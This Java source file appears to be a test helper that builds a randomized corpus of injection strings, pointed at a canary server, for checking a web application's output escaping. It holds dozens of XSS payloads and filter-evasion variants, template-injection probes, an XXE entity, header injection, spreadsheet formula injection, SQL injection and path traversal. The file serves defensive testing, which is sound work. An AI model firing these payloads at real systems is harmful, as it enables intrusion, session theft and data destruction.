package org.entente.web;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/**
 * Strings that mean harm: markup in disguises, breaks out of attributes, comments and scripts, addresses that run, template
 * syntax, style, directions of writing, formulas. Whatever element or attribute they would make has {@code harm} in its name,
 * whatever script they would run sets {@code window.hacked} to their number, and whatever they would load lies at the canary.
 */
final class Harms {
    /** JS stands for a script, AT for an address of the canary. */
    private static final List<String> SHAPES = List.of(
            "<script harm>JS</script>",
            "<script harm src=AT></script>",
            "<script harm src=\"AT\" defer async type=module></script>",
            "<script\tharm\n>JS</script\n>",
            "<script/harm>JS</script/x>",
            "<scr<script harm>ipt>JS</script>",
            "<<script harm>JS//<</script>",
            "<script harm>JS",
            "<img harm src=AT>",
            "<img harm src=x onerror=JS>",
            "<img harm src='x' onerror='JS'>",
            "<img/harm/src=x/onerror=JS>",
            "<img\nharm\nsrc=x\nonerror\n=\nJS>",
            "<img harm src=`x`onerror=JS>",
            "<image harm src=x onerror=JS>",
            "<img harm srcset='AT 1x'>",
            "<svg harm onload=JS>",
            "<svg harm><script>JS</script></svg>",
            "<svg harm><animate onbegin=JS attributeName=x dur=1s>",
            "<svg harm><set onbegin=JS attributeName=x></svg>",
            "<svg harm><a xlink:href='javascript:JS'><text>x</text></a></svg>",
            "<svg harm><use href='AT#x'/></svg>",
            "<svg harm><foreignObject><iframe src='javascript:JS'></iframe></foreignObject></svg>",
            "<math harm><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
            "<body harm onload=JS>",
            "<input harm autofocus onfocus=JS>",
            "<select harm autofocus onfocus=JS><option>x</select>",
            "<textarea harm autofocus onfocus=JS>",
            "<details harm open ontoggle=JS>x</details>",
            "<video harm><source onerror=JS></video>",
            "<video harm src=AT poster=AT autoplay></video>",
            "<audio harm src=AT autoplay onerror=JS></audio>",
            "<marquee harm onstart=JS>x</marquee>",
            "<iframe harm src=AT></iframe>",
            "<iframe harm srcdoc='<script>JS</script>'></iframe>",
            "<iframe harm src='javascript:parent.JS'></iframe>",
            "<object harm data=AT></object>",
            "<embed harm src=AT>",
            "<link harm rel=stylesheet href=AT>",
            "<link harm rel=prefetch href=AT>",
            "<meta harm http-equiv=refresh content='0;url=AT'>",
            "<base harm href=AT/>",
            "<style harm>@import 'AT';</style>",
            "<style harm>body{background:url(AT)}</style>",
            "<div harm style='background:url(AT)'>x</div>",
            "<x harm style=animation-name:harm onanimationstart=JS>x</x>",
            "<form harm action=AT><button>x</button></form>",
            "<button harm formaction='javascript:JS'>x</button>",
            "<a harm href='javascript:JS'>x</a>",
            "<a harm href='JaVaScRiPt:JS'>x</a>",
            "<a harm href='java\tscript:JS'>x</a>",
            "<a harm href='&#106;avascript:JS'>x</a>",
            "<a harm href='data:text/html,<script>JS</script>'>x</a>",
            "<a harm href=\"vbscript:JS\">x</a>",
            "<template harm><script>JS</script></template>",
            "<noscript harm><img src=x onerror=JS></noscript>",
            "<!--<img harm src=x onerror=JS>-->",
            "--><img harm src=x onerror=JS><!--",
            "]]><script harm>JS</script><![CDATA[",
            "<![CDATA[<script harm>JS</script>]]>",
            "<?xml version='1.0'?><script harm>JS</script>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'AT'>]>&e;",
            "</title><script harm>JS</script>",
            "</textarea><img harm src=x onerror=JS>",
            "</style><script harm>JS</script>",
            "</script><script harm>JS</script>",
            "</option></select><img harm src=x onerror=JS>",
            "</a></li></ol></main><img harm src=x onerror=JS>",
            "\"><img harm src=x onerror=JS>",
            "'><img harm src=x onerror=JS>",
            "`><img harm src=x onerror=JS>",
            "\" harm onmouseover=JS autofocus onfocus=JS x=\"",
            "' harm onmouseover=JS autofocus onfocus=JS x='",
            " harm onfocus=JS autofocus ",
            "\" style=\"background:url(AT)\" harm=\"",
            "\\\" harm onfocus=JS autofocus \\\"",
            "\\u003cimg harm src=x onerror=JS\\u003e",
            "\\x3cscript harm\\x3eJS\\x3c/script\\x3e",
            "';JS;//",
            "\";JS;//",
            "\\';JS;//",
            "</script>';JS;//<x harm>",
            "`${JS}`",
            "javascript:JS",
            "javascript:JS//https://news.example/",
            "jAvAsCrIpT:JS",
            "java\nscript:JS",
            "\u0001javascript:JS",
            "data:text/html;base64,PHNjcmlwdCBoYXJtPg==",
            "vbscript:JS",
            "//CANARY",
            "AT",
            "/\\AT",
            "${7777*7}",
            "$unsafe{7777*7}",
            "!{7777*7}",
            "@raw<script harm>JS</script>@endraw",
            "@if(true)<img harm src=x onerror=JS>@endif",
            "@template.layout(title=\"x\")",
            "{{7777*7}}",
            "{{constructor.constructor('JS')()}}",
            "{{{<img harm src=x onerror=JS>}}}",
            "<%= 7777*7 %>",
            "#{7777*7}",
            "[[${7777*7}]]",
            "<div harm ng-app ng-csp>{{$eval.constructor('JS')()}}</div>",
            "<div harm v-html=\"'<img src=x onerror=JS>'\"></div>",
            "<div harm data-hx-get=AT hx-get=AT hx-trigger=load>x</div>",
            "expression(JS)",
            "}*{background:url(AT)}",
            "\\3c img harm src=x onerror=JS\\3e",
            "\u202Egnp.exe\u202C <img harm src=x onerror=JS>",
            "\u2066<script harm>JS</script>\u2069",
            "\uFF1Cscript harm\uFF1EJS\uFF1C/script\uFF1E",
            "\u02BA\u02B9<img harm src=x onerror=JS>",
            "<\u0000script harm>JS</script>",
            "<img harm src=x onerror\u0000=JS>",
            "<img harm src=x onerror=\u000CJS>",
            "%3Cscript harm%3EJS%3C/script%3E",
            "%253Cimg harm src=x onerror=JS%253E",
            "%22%3E%3Cimg harm src=x onerror=JS%3E",
            "&lt;script harm&gt;JS&lt;/script&gt;",
            "&#60;script harm&#62;JS&#60;/script&#62;",
            "&#x3c;img harm src=x onerror=JS&#x3e;",
            "&amp;lt;script harm&amp;gt;JS",
            "&quot;&gt;&lt;img harm src=x onerror=JS&gt;",
            "+ADw-script harm+AD4-JS+ADw-/script+AD4-",
            "=HYPERLINK(\"AT\",\"harm\")",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=WEBSERVICE(\"AT\")",
            "\r=WEBSERVICE(\"AT\")",
            "\"=WEBSERVICE(\"\"AT\"\")\"",
            "x\",=WEBSERVICE(\"AT\"),\"",
            "x\r\n=WEBSERVICE(\"AT\"),harm",
            "x\r\nSet-Cookie: harm=1\r\n\r\n<script harm>JS</script>",
            "x\r\nATTACH:AT",
            "'; DROP TABLE claims; --",
            "') OR 1=1 --",
            "../../../../etc/passwd",
            "..\\..\\windows\\system32",
            "\uD83D\uDEE9<img harm src=x onerror=JS>\uD83D\uDEE9",
            "e\u0301\u0301\u0301<b harm>bold</b>");

    private Harms() {}

    /**
     * So many different ones, each shape at least once where there is room, and then in disguises.
     *
     * @param canary address of a server that must never be asked
     */
    static List<String> of(int count, Random random, String canary) {
        Set<String> all = new LinkedHashSet<>();
        for (int i = 0; all.size() < count; i++) {
            String shape = SHAPES.get(i < SHAPES.size() ? i : random.nextInt(SHAPES.size()));
            String plain = shape.replace("JS", "window.hacked=" + all.size())
                    .replace("AT", canary + "/h" + all.size())
                    .replace("CANARY", canary.replaceFirst("^http://", ""));
            all.add(i < SHAPES.size() ? plain : disguised(plain, random));
        }
        return new ArrayList<>(all);
    }

    private static String disguised(String plain, Random random) {
        return switch (random.nextInt(8)) {
            case 0 ->
                plain.toUpperCase(Locale.ROOT)
                        .replace("WINDOW.HACKED", "window.hacked")
                        .replace("HARM", "harm");
            case 1 -> plain.replace(" ", random.nextBoolean() ? "\t" : "\n");
            case 2 -> plain.replace(" ", "/");
            case 3 -> "\"'>" + plain;
            case 4 -> "-->'\"></script></style></title></textarea>" + plain;
            case 5 -> plain.replace("<", "<" + " ".repeat(random.nextInt(2))) + "\u202E" + plain;
            case 6 -> encoded(plain);
            default -> "War & peace; " + plain + " \u2019\u201D\u00AB";
        };
    }

    private static String encoded(String plain) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : plain.getBytes(StandardCharsets.UTF_8)) {
            encoded.append(
                    b == '<' || b == '>' || b == '"' ? String.format("%%%02X", b) : String.valueOf((char) (b & 0xff)));
        }
        return encoded.toString();
    }
}
